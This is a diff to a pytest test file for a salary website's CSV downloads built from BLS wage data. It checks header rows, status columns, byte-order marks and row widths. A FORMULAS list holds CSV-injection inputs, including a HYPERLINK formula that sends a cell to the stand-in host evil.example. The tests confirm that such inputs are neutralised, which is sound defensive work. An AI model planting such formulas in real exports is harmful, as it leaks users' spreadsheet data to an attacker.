@@ -1,24 +1,48 @@
-"""CSV downloads: the rows and order shown, the source line, markers as BLS writes them."""
+"""CSV downloads are plain data: a header row, then a row per record as wide as the header,
+figures as plain numbers with BLS's markers in status columns, UTF-8 with a byte-order mark, and
+no cell that a spreadsheet would run as a formula."""
 
+import codecs
 import csv
 import io
+import re
 from decimal import Decimal
 
 import pytest
 
+from careers import csvfile
+
+NUMBER = re.compile(r"-?\d+(\.\d+)?")
+SOURCE = "U.S. Bureau of Labor Statistics, Occupational Employment and Wage Statistics"
+PROFILE_HEADER = [
+    "State", "State code", "Median Salary", "Median Salary status", "Median Hourly",
+    "Median Hourly status", "Positions", "Positions status", "Occupation", "SOC code", "Source",
+    "Release",
+]  # fmt: skip
+
 
 def read_csv(response):
+    """The file's rows, read the way a program with no options reads it, after checking what
+    every download must be."""
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    assert response["Content-Disposition"].startswith('attachment; filename="')
-    return list(csv.reader(io.StringIO(response.content.decode())))
+    assert re.fullmatch(r'attachment; filename="[a-z0-9.-]+\.csv"', response["Content-Disposition"])
+    raw = response.content
+    assert raw.startswith(codecs.BOM_UTF8), "no byte-order mark: Excel would garble the file"
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert rows, "no header row"
+    widths = {len(row) for row in rows}
+    assert widths == {len(rows[0])}, f"rows of different widths: {widths}"
+    return rows
 
 
-def table_part(rows):
-    """The header and data rows: between the blank line after the source and the notes."""
-    start = rows.index([]) + 1
-    end = rows.index([], start) if [] in rows[start:] else len(rows)
-    return rows[start:end]
+def records(rows):
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def figure_columns(header):
+    """The figure columns: those with a status column beside them."""
+    return [name for name in header if f"{name} status" in header]
 
 
 @pytest.fixture
@@ -33,25 +57,59 @@ def occupation(wages):
     return occupation
 
 
-def test_profile_table_csv_has_source_markers_and_order(client, occupation):
-    query = "?release=2031&sort=-annual_median"
-    rows = read_csv(client.get(f"/salaries/{occupation.slug}/states.csv{query}"))
-    assert rows[0] == ["Csv Testers: medians and positions by state, May 2031"]
-    assert rows[1] == ["Source: U.S. Bureau of Labor Statistics, OEWS, May 2031."]
-    table = table_part(rows)
-    assert table[0] == ["State", "Median Salary", "Median Hourly", "Positions"]
-    assert table[1] == ["U.S.", "50000", "24.04", "150000"]
-    assert table[2] == ["CA", "#", "#", table[2][3]]  # top-coded first when descending
-    assert table[-1] == ["TX", "*", "*", "**"]  # not released last
-    assert len(table) == 1 + 1 + 51
-    numbers = [int(row[1]) for row in table[3:-1]]
+@pytest.fixture
+def downloads(occupation, wages):
+    """One address of each kind of download: a profile's state table, a state page, compare."""
+    release = wages.release(2031)
+    total = wages.occupation("All Occupations (test)", level="total")
+    wages.estimate(occupation=total, release=release, area="CA", employment=5_000_000)
+    return {
+        "profile": f"/salaries/{occupation.slug}/states.csv?sort=-annual_median",
+        "percentiles": f"/salaries/{occupation.slug}/states.csv?wages=hourly-percentiles",
+        "state": "/states/ca/occupations.csv?release=2031",
+        "compare": f"/salaries/{occupation.slug}/compare.csv?state=TX&state=CA&release=2031",
+    }
+
+
+KINDS = ["profile", "percentiles", "state", "compare"]
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_every_csv_has_a_bom_a_header_first_and_rows_as_wide_as_it(client, downloads, kind):
+    rows = read_csv(client.get(downloads[kind]))
+    assert len(rows) > 2
+    assert "Source" in rows[0] and "Release" in rows[0]
+    # No title, source or note lines: every row after the header is a record.
+    assert all(row[rows[0].index("Release")] == "May 2031" for row in rows[1:])
+    assert all(row[rows[0].index("Source")] == SOURCE for row in rows[1:])
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_every_figure_is_a_plain_number_or_empty_with_a_status(client, downloads, kind):
+    rows = read_csv(client.get(downloads[kind]))
+    columns = figure_columns(rows[0])
+    assert columns
+    for record in records(rows):
+        for name in columns:
+            value, status = record[name], record[f"{name} status"]
+            if value:
+                assert NUMBER.fullmatch(value), f"{name}: {value!r} is not a plain number"
+                assert status == "", (name, value, status)
+            else:
+                assert status, f"{name} is empty without a status"
+
+
+def test_profile_csv_keeps_the_pages_order_with_markers_in_status_columns(client, occupation):
+    rows = read_csv(client.get(f"/salaries/{occupation.slug}/states.csv?sort=-annual_median"))
+    assert rows[0] == PROFILE_HEADER
+    context = ["Csv Testers", occupation.soc_code, SOURCE, "May 2031"]
+    assert rows[1] == ["United States", "US", "50000", "", "24.04", "", "150000", "", *context]
+    # Top-coded first when descending, as on the page; the number is left empty, "#" says why.
+    assert rows[2][:6] == ["California", "CA", "", "#", "", "#"]
+    assert rows[-1][:8] == ["Texas", "TX", "", "*", "", "*", "", "**"]  # not released last
+    assert len(rows) == 1 + 1 + 51
+    numbers = [int(row[2]) for row in rows[3:-1]]
     assert numbers == sorted(numbers, reverse=True)
-    notes = rows[len(rows) - 3 :]
-    assert notes == [
-        ["* = wage estimate not available"],
-        ["** = employment estimate not available"],
-        ["# = wage equal to or greater than $115.00 per hour or $239,200 per year"],
-    ]
 
 
 def test_csv_follows_the_same_rows_as_the_html(client, occupation, html_table):
@@ -66,44 +124,68 @@ def test_csv_follows_the_same_rows_as_the_html(client, occupation, html_table):
         html = render_salary_section(occupation, query)
         table_id = "state-hourly-percentiles" if "percentiles" in query else "state-medians"
         shown = [row[0] for row in html_table(html, table_id)[1:]]
-        csv_rows = table_part(
-            read_csv(client.get(f"/salaries/{occupation.slug}/states.csv{query}"))
-        )
-        assert [row[0] for row in csv_rows[1:]] == shown, query
+        rows = read_csv(client.get(f"/salaries/{occupation.slug}/states.csv{query}"))
+        codes = [row[1] for row in rows[1:]]
+        assert [code if code != "US" else "U.S." for code in codes] == shown, query
 
 
 def test_percentile_csv(client, occupation):
     rows = read_csv(client.get(f"/salaries/{occupation.slug}/states.csv?wages=annual-percentiles"))
-    table = table_part(rows)
-    assert table[0] == [
-        "State", "10th percentile", "25th percentile", "Median", "75th percentile",
-        "90th percentile",
+    assert rows[0][:12] == [
+        "State", "State code", "10th percentile", "10th percentile status", "25th percentile",
+        "25th percentile status", "Median", "Median status", "75th percentile",
+        "75th percentile status", "90th percentile", "90th percentile status",
     ]  # fmt: skip
-    assert table[1] == ["U.S.", "35000", "42000", "50000", "60000", "75000"]
-    assert rows[0] == ["Csv Testers: annual wage percentiles by state, May 2031"]
+    assert rows[1][:12] == [
+        "United States", "US", "35000", "", "42000", "", "50000", "", "60000", "", "75000", "",
+    ]  # fmt: skip
 
 
-def test_figures_not_in_the_source_are_empty_cells_with_a_note(client, wages):
+def test_figures_not_in_the_source_are_empty_cells_with_a_status_word(client, wages):
     occupation = wages.occupation()
     wages.estimate(
         occupation=occupation, release=wages.release(2031), area="OH", annual_median=61000,
     )  # fmt: skip
     rows = read_csv(client.get(f"/salaries/{occupation.slug}/states.csv"))
-    assert table_part(rows)[1] == ["OH", "61000", "", ""]
-    assert rows[-1] == ["Empty cell = not published in this release's source"]
+    assert rows[1][:8] == ["Ohio", "OH", "61000", "", "", "not in source", "", "not in source"]
 
 
-def test_compare_csv(client, occupation):
+def test_compare_csv_has_a_row_per_state_in_the_order_chosen(client, occupation):
     rows = read_csv(
         client.get(f"/salaries/{occupation.slug}/compare.csv?state=TX&state=ca&release=2031")
     )
-    assert rows[0] == ["Csv Testers: California, Texas compared, May 2031"]
-    table = table_part(rows)
-    assert table[0] == ["Measure", "California", "Texas", "U.S."]
-    by_measure = {row[0]: row[1:] for row in table[1:]}
-    assert by_measure["Median salary"] == ["#", "*", "50000"]
-    assert by_measure["Positions"] == ["240", "**", "150000"]
-    assert by_measure["Median salary: difference from the U.S."] == ["", "", ""]
+    assert rows[0][:8] == [
+        "State", "State code", "Positions", "Positions status", "Median salary",
+        "Median salary status", "Median salary: difference from the U.S.",
+        "Median salary: difference from the U.S. (%)",
+    ]  # fmt: skip
+    assert rows[0][-4:] == ["Occupation", "SOC code", "Source", "Release"]
+    by_state = {record["State code"]: record for record in records(rows)}
+    assert [row[1] for row in rows[1:]] == ["TX", "CA", "US"]  # as chosen, the U.S. last
+    assert (by_state["TX"]["Positions"], by_state["TX"]["Positions status"]) == ("", "**")
+    assert by_state["CA"]["Median salary status"] == "#"
+    assert by_state["US"]["Median salary"] == "50000"
+    # No difference where a side is a marker, and none for the U.S. against itself.
+    for code in ("TX", "CA", "US"):
+        assert by_state[code]["Median salary: difference from the U.S."] == ""
+
+
+def test_compare_csv_writes_differences_as_signed_numbers(client, wages):
+    occupation = wages.occupation()
+    wages.state_table(occupation, wages.release(2031), states=["CA", "TX"])
+    response = client.get(f"/salaries/{occupation.slug}/compare.csv?state=CA&state=TX")
+    rows = read_csv(response)
+    by_state = {record["State code"]: record for record in records(rows)}
+    # CA 40,000 and TX 47,000 a year against the U.S. 50,000 (tests/conftest.py).
+    assert by_state["CA"]["Median salary: difference from the U.S."] == "-10000"
+    assert by_state["CA"]["Median salary: difference from the U.S. (%)"] == "-20.0"
+    assert by_state["TX"]["Median salary: difference from the U.S."] == "-3000"
+    assert by_state["TX"]["Median salary: difference from the U.S. (%)"] == "-6.0"
+    assert by_state["TX"]["Median hourly: difference from the U.S."] == "-1.44"
+    # Numbers, not text: unquoted, and not turned into '-3000 by the formula guard.
+    text = response.content.decode("utf-8-sig")
+    assert ",-3000,-6.0," in text
+    assert "'-" not in text and "\u2212" not in text and "$" not in text
 
 
 def test_compare_csv_rejects_bad_choices_without_a_500(client, occupation):
@@ -131,12 +213,58 @@ def test_state_csv_has_every_row_in_the_order_shown(client, wages):
     rows = read_csv(
         client.get("/states/oh/occupations.csv?release=2031&sort=-employment&per_page=10")
     )
-    table = table_part(rows)
-    assert table[0] == ["Occupation", "SOC code", "Median Salary", "Median Hourly", "Positions"]
-    assert table[1][:2] == ["All Occupations (test)", "98-0001"]
-    assert table[1][4] == "5000000"
-    assert [row[0] for row in table[2:]] == [f"Row {number:02d}" for number in range(29, -1, -1)]
-    assert rows[0] == ["Detailed occupations in Ohio, May 2031"]
+    assert rows[0] == [
+        "Occupation", "SOC code", "Median Salary", "Median Salary status", "Median Hourly",
+        "Median Hourly status", "Positions", "Positions status", "Source", "Release",
+    ]  # fmt: skip
+    assert rows[1][:2] == ["All Occupations (test)", "98-0001"]
+    assert rows[1][6:8] == ["5000000", ""]
+    assert [row[0] for row in rows[2:]] == [f"Row {number:02d}" for number in range(29, -1, -1)]
+    assert rows[2][2:8] == ["32900", "", "14.42", "", "1029", ""]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+    "\rReturned",
+]
+
+
+def test_a_title_that_would_start_a_formula_is_neutralised_in_every_csv(client, wages):
+    release = wages.release(2031)
+    for title in FORMULAS:
+        occupation = wages.occupation(title)
+        wages.state_table(occupation, release, states=["CA", "TX"])
+    rows = read_csv(client.get("/states/ca/occupations.csv"))
+    titles = {row[0] for row in rows[1:]}
+    assert titles == {f"'{title}" for title in FORMULAS}
+    # The same in the occupation column of a profile's table and of a comparison.
+    for url in (
+        f"/salaries/{occupation.slug}/states.csv",
+        f"/salaries/{occupation.slug}/compare.csv?state=CA&state=TX",
+    ):
+        downloaded = records(read_csv(client.get(url)))
+        assert {record["Occupation"] for record in downloaded} == {"'\rReturned"}, url
+
+
+def test_the_writer_neutralises_text_but_keeps_numbers_numeric():
+    assert csvfile.cell("=1+1") == "'=1+1"
+    assert csvfile.cell("@cmd") == "'@cmd"
+    assert csvfile.cell("-") == "'-"
+    assert csvfile.cell("Safe title") == "Safe title"
+    assert csvfile.cell("29-2072") == "29-2072"
+    assert csvfile.cell(-3000) == "-3000"
+    assert csvfile.cell(Decimal("-4.0")) == "-4.0"
+    assert csvfile.cell(Decimal("1E+1")) == "10"
+    assert csvfile.cell(None) == ""
+
+
+def test_the_writer_refuses_rows_of_another_width():
+    with pytest.raises(ValueError, match="Row 3 has 1 cells; the header has 2"):
+        csvfile.csv_rows([["a", "b"], [1, 2], [3]])
 
 
 def test_csv_for_unknown_things_is_not_found(client, wages):
@@ -164,7 +292,7 @@ def test_state_csv_query_count_is_constant(client, wages, rows, django_assert_nu
     # area, releases with figures, the release, the total row, every row
     with django_assert_num_queries(5):
         response = client.get("/states/nv/occupations.csv?sort=-employment")
-    assert len(table_part(read_csv(response))) == rows + 1
+    assert len(read_csv(response)) == rows + 1
 
 
 @pytest.mark.parametrize("states", [2, 5])
@@ -173,4 +301,4 @@ def test_compare_csv_query_count_is_constant(client, occupation, states, django_
     # occupation, content stamp and releases, release, areas with figures, estimates
     with django_assert_num_queries(6):
         response = client.get(f"/salaries/{occupation.slug}/compare.csv?{query}")
-    assert len(table_part(read_csv(response))[0]) == states + 2
+    assert len(read_csv(response)) == states + 2
